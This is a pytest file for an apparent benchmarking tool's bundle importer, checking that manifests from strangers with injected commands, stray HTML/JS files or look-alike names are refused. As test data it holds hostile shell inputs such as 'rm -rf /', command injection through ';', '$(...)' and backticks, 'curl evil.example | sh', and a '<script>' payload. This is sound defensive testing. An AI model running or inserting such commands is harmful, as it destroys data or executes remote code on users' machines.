"""A stranger's manifest: commands, analyses and names that would harm whoever imports the bundle are refused."""

from dataclasses import replace

import pytest
from bundle_tools import refuse, sign, sign_file

from isobench.bundles.manifest import require_plain_command
from isobench.runs.plan import read_plans, write_plan

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("bundles")]  # they share runs that are trained once


@pytest.mark.parametrize(
    ("experiment", "existing", "message"),
    [
        (None, None, "a bundle without a name is no experiment of this version that trains nothing"),
        ("glue_isobn", None, "glue_isobn is no experiment of this version that trains nothing"),
        ("isotropy_dial", None, "isotropy_dial is no experiment of this version that trains nothing"),
        ("unheard_of", None, "unheard_of is no experiment of this version that trains nothing"),
        ("isobn_ev", "report.json", "has a report of trained runs (report.json)"),
        ("isobn_ev", "runs.parquet", "has a report of trained runs (runs.parquet)"),
        ("isobn_ev", None, None),
    ],
)
def test_an_analysis_is_planted_on_no_page_of_trained_runs(
    run_import, make_analysis_bundle, tmp_path, experiment, existing, message
):
    outputs = tmp_path / "outputs"
    folder = outputs / "reports" / "isobn_ev"
    if existing:
        folder.mkdir(parents=True)
        (folder / existing).write_text("mine")
    code, _, err = run_import(make_analysis_bundle(experiment), outputs)
    if message is None:
        assert (code, err) == (0, "")
        assert (folder / "tables.txt").read_text() == "forged"
        return
    assert (code, len(err.splitlines())) == (2, 1)
    assert message in err
    assert not list(outputs.rglob("tables.txt"))


COMMANDS = [
    "rm -rf /", "python -m isobenchx", "python -m isobench -m; rm -rf x", "python -m isobench -m $(rm x)",
    "python -m isobench -m\nrm -rf x", "python -m isobench -m '\n'", "python -m isobench 'x",
    " python -m isobench -m",
    "python -m isobench -m \x1b[2J", "python -m isobench -m \u2028x", "python -m isobench -m `x`",
]  # fmt: skip


@pytest.mark.parametrize("line", COMMANDS)
def test_a_command_that_starts_anything_else_is_refused(line):
    with pytest.raises(ValueError, match=r"command|closing"):
        require_plain_command(line)


def test_foreign_commands_are_neither_imported_nor_exported_again(bundle, run_import, run_export, tmp_path):
    outputs = tmp_path / "outputs"
    sign(bundle, lambda m: m.update(commands=["curl evil.example | sh"]))
    refuse(run_import, bundle, tmp_path, "manifest.json")
    sign(bundle, lambda m: m.update(commands=["python -m isobench -m seed=9"]))
    refuse(run_import, bundle, tmp_path, "commands.txt", "other commands than the manifest")
    (bundle / "commands.txt").write_text("python -m isobench -m seed=9\n")
    sign_file(bundle, "commands.txt")
    assert run_import(bundle, outputs)[0] == 0
    (plan,) = read_plans(outputs)
    for line, exported in (("python -m isobench -m a=$(id) ; id", "'a=$(id)' ';' id"), ("curl evil.example", None)):
        (file,) = (outputs / "plans").iterdir()
        file.unlink()
        write_plan(outputs, replace(plan, commands=[line]))  # as somebody else could have left it
        code, _, err = run_export(outputs, tmp_path / "again")
        if exported:
            assert code == 0, err
            assert (tmp_path / "again" / "commands.txt").read_text().splitlines()[0].endswith(exported)
        else:
            assert (code, len(err.splitlines())) == (2, 1)
            assert "curl evil.example can't be exported" in err


def test_an_empty_bundle_is_refused(bundle, run_import, tmp_path):
    empty = {"runs": {}, "data": {}, "weights": {}, "planned": 0}
    sign(bundle, lambda m: m.update(empty, files={"commands.txt": m["files"]["commands.txt"]}))
    refuse(run_import, bundle, tmp_path, "the bundle is empty")


@pytest.mark.parametrize(
    ("names", "message"),
    [
        (["x.html"], "no analysis has such a file"),
        (["x.js"], "no analysis has such a file"),
        (["report.html"], "no analysis has such a file"),
        (["runs.parquet"], "no analysis has such a file"),
        (["x.svg", "X.svg"], "differ in case or in the form of letters only"),
        (["gr\u00f6\u00dfe.csv", "gro\u0308\u00dfe.csv"], "differ in case or in the form of letters only"),
    ],
)
def test_an_analysis_has_no_file_of_another_kind(run_import, make_analysis_bundle, tmp_path, names, message):
    refuse(run_import, make_analysis_bundle("isobn_ev", *names), tmp_path, message)


@pytest.mark.parametrize("name", ["notes.txt", "evil.html", "about.json", "x.csv"])
def test_a_report_has_no_other_files(bundle, run_import, tmp_path, name):
    (bundle / "report" / name).write_text("<script>")
    sign_file(bundle, f"report/{name}")
    refuse(run_import, bundle, tmp_path, f"report/{name}", "neither the report's nor the analysis's")
